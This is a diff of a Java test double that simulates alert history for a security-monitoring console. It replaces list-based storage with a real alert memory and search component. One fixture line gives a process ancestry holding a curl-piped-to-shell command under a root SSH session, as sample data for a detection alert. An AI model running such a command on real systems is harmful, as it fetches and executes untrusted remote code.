@@ -1,22 +1,27 @@
 package org.eyas.console.page;
 
 import java.time.Instant;
+import java.time.InstantSource;
 import java.util.List;
 import java.util.Optional;
 import java.util.TreeMap;
 import java.util.TreeSet;
-import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.function.Consumer;
 import org.eyas.api.alert.Alert;
 import org.eyas.api.alert.Priority;
 import org.eyas.api.control.AlertHistory;
+import org.eyas.api.control.AlertSearch;
 import org.eyas.api.control.PastAlert;
+import org.eyas.engine.history.AlertMemory;
+import org.eyas.engine.history.HistorySearch;
 import org.jspecify.annotations.Nullable;
 
-/** Alerts that a test raises. */
+/** Alerts that a test raises, in a real history. */
 final class FakeAlerts implements AlertHistory {
-  private final List<PastAlert> past = new CopyOnWriteArrayList<>();
-  private final List<Consumer<PastAlert>> followers = new CopyOnWriteArrayList<>();
+  private static final long MEMORY_BYTES = 4 << 20;
+
+  private final AlertMemory memory = new AlertMemory(MEMORY_BYTES);
+  private final AlertSearch search = new HistorySearch(memory, InstantSource.system());
 
   void raise(Priority priority, String rule, String message, String... tags) {
     raise(priority, rule, message, new TreeMap<>(), tags);
@@ -40,45 +45,37 @@ final class FakeAlerts implements AlertHistory {
     List<String> ancestors =
         List.of("4711 bash -c 'curl http://example.org | sh'", "4710 sshd: root@pts/0", "812 sshd", "1 systemd");
     String explanation = "spawned_process and proc.name = bash\n  true   spawned_process\n  true   proc.name = bash";
-    PastAlert fresh = new PastAlert(past.size() + 1, alert, ancestors, explanation);
-    past.addFirst(fresh);
-    followers.forEach(follower -> follower.accept(fresh));
+    memory.describe(alert, ancestors, explanation);
+    memory.add(alert);
   }
 
   /** The alerts from which a new engine continues. */
   FakeAlerts successor() {
     FakeAlerts next = new FakeAlerts();
-    next.past.addAll(past);
+    next.memory.resumeFrom(memory.left());
     return next;
   }
 
-  int followers() {
-    return followers.size();
+  boolean isFollowed() {
+    return memory.isFollowed();
+  }
+
+  AlertSearch search() {
+    return search;
   }
 
   @Override
   public List<PastAlert> recent(int most) {
-    return past.stream().limit(most).toList();
+    return memory.recent(most);
   }
 
   @Override
   public Optional<PastAlert> find(long number) {
-    return past.stream().filter(alert -> alert.number() == number).findFirst();
+    return memory.find(number);
   }
 
   @Override
   public Following follow(Consumer<PastAlert> listener) {
-    followers.add(listener);
-    return new Following() {
-      @Override
-      public long missed() {
-        return 0;
-      }
-
-      @Override
-      public void close() {
-        followers.remove(listener);
-      }
-    };
+    return memory.follow(listener);
   }
 }
